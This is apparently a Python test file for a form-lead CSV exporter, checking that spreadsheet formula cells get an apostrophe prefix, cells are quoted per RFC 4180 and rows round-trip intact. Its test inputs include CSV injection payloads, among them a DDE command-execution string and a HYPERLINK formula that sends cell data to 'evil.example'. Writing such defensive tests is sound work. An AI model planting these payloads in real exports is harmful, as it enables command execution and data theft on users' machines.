"""The CSV: harmless to a spreadsheet, the same columns each time, whole when it is read back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forms.definition import load
from forms.lead import Lead
from microsite.desk.sheet import columns
from microsite.desk.sheet import harmless
from microsite.desk.sheet import lines

FORMS = load()


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+15550100",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "\ufeff=1",
        "\u202e=1",
        "\u200b@x",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "\u22121",
        "\ufe631",
        "|cmd",
        "%0A=1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
    ],
)
def test_what_looks_like_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "Ann", "1 + 1", "a=b", "'=1", "Zoë", "5 % of it", "ann@example.com", " x", "(=1)"]
)
def test_what_does_not_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def table(*leads: Lead) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(lines(leads, FORMS)), newline="")))


def lead(**values: str) -> Lead:
    return Lead("aaa1", "k", "contact", 1_795_003_200.0, values, page="safety/benefits")


def test_every_line_ends_as_rfc_4180_says_and_every_cell_is_quoted() -> None:
    text = "".join(lines([lead(name='Say "hi"\nthere', message="a,b")], FORMS))
    assert text.count("\r\n") == 2
    assert text.endswith('"\r\n')
    assert '"Say ""hi""\nthere","' in text


def test_a_row_has_the_facts_and_the_fields() -> None:
    (row,) = table(lead(name="Ann", email="ann@example.com", message="=1"))
    assert (row["id"], row["form"], row["page"], row["created"]) == (
        "aaa1", "contact", "safety/benefits", "2026-11-18T12:00:00+00:00",
    )  # fmt: skip
    assert (row["field.name"], row["field.email"], row["field.message"]) == ("Ann", "ann@example.com", "'=1")


def test_a_field_that_no_definition_has_any_more_is_kept_without_a_new_column() -> None:
    (row,) = table(lead(name="Ann", shoe_size="=44"))
    assert list(row) == columns(FORMS.values())
    assert row["other_fields"] == '{"shoe_size": "=44"}'


def test_private_fields_have_no_column() -> None:
    form = FORMS["contact"]
    private = form._replace(fields=tuple(one._replace(private=True) for one in form.fields))
    assert not [name for name in columns([private]) if name.startswith("field.")]


@given(st.dictionaries(st.sampled_from(["name", "email", "message", "other"]), st.text(), max_size=4))
def test_whatever_was_sent_stays_in_its_cell(values: dict[str, str]) -> None:
    values = {
        name: "".join(c for c in value if c != "\x00" and not "\ud800" <= c <= "\udfff")
        for name, value in values.items()
    }
    rows = table(lead(**values), lead(name="last"))
    assert len(rows) == 2
    assert None not in rows[0]
    assert rows[1]["field.name"] == "last"
    for name in ("name", "email", "message"):
        assert rows[0][f"field.{name}"].removeprefix("'") == values.get(name, "").removeprefix("'")
